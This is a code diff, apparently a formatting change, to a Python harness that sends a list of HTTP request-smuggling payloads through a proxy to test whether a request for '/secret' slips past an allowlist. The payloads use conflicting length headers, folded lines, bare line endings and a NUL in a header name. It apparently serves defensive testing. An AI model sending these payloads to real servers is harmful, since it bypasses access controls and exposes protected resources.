@@ -10,16 +10,25 @@ import socket
 _INNER = "GET /secret HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
 _TRICKS = {
     "both lengths": f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{_INNER}",
-    "both lengths, the other way": f"Transfer-Encoding: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
+    "both lengths, the other way": (
+        f"Transfer-Encoding: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
+    ),
     "two lengths": f"Content-Length: 0\r\nContent-Length: {len(_INNER)}\r\n\r\n{_INNER}",
     "a list of lengths": f"Content-Length: 0, {len(_INNER)}\r\n\r\n{_INNER}",
     "a signed length": f"Content-Length: +0\r\n\r\n{_INNER}",
-    "a space before the colon": f"Transfer-Encoding : chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
-    "a folded line": f"X: y\r\n Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
+    "a space before the colon": (
+        f"Transfer-Encoding : chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
+    ),
+    "a folded line": (
+        "X: y\r\n Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length:"
+        f" {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
+    ),
     "another coding": f"Transfer-Encoding: xchunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
     "two codings": f"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{_INNER}",
     "bare line feeds": f"Content-Length: 0\nX: y\n\n{_INNER}",
-    "a bare carriage return": f"X: y\rTransfer-Encoding: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
+    "a bare carriage return": (
+        f"X: y\rTransfer-Encoding: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
+    ),
     "a chunk size with a tail": f"Transfer-Encoding: chunked\r\n\r\n0;a=\n\r\n\r\n{_INNER}",
     "a NUL in a name": f"Transfer-Encoding\0: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
     "no body at all": f"\r\n{_INNER}",
@@ -47,7 +56,10 @@ def attack():
         for port in (8081, 8082):
             head = f"POST /ok HTTP/1.1\r\nHost: allowed.example:{port}\r\n{rest}"
             absolute = head.replace("POST /ok", f"POST http://allowed.example:{port}/ok", 1)
-            for answer in (_talk("allowed.example", port, head.encode("latin-1")), _talk("127.0.0.1", 15001, absolute.encode("latin-1"))):
+            for answer in (
+                _talk("allowed.example", port, head.encode("latin-1")),
+                _talk("127.0.0.1", 15001, absolute.encode("latin-1")),
+            ):
                 if b"/secret" in answer and b"SERVED" in answer:
                     return f"ESCAPED: smuggled by {what}, port {port}"
     return "HELD: one request, whose end is known, on each connection"
